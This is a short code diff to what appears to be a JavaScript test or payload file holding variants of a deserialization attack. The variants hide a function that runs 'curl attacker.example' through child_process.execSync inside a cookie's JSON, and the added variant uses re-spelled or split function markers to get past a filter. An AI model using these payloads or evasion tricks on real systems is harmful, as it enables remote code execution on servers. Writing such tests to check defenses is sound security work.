@@ -64,6 +64,7 @@ const call = (command) => `${MARK}function(){ require('child_process').execSync(
 exports.variants = {
   'a function further inside': (code) =>
     tryCookie(code, JSON.stringify({ room: 'Lake view', nights: 2, extras: ['breakfast', call('curl attacker.example')] })),
-  'a mark that is written in another way': (code) =>
-    tryCookie(code, JSON.stringify({ room: call('curl attacker.example') }).replace('_$$', '\\u005f$$$$')),
+  'a mark that is written in another way': async (code) =>
+    (await tryCookie(code, JSON.stringify({ room: call('curl attacker.example') }).replace('_$$', '\\u005f$$$$')))
+    ?? tryCookie(code, JSON.stringify({ room: `${MARK.slice(0, 5)}${MARK}${MARK.slice(5)}${call('curl attacker.example').slice(MARK.length)}` })),
 };
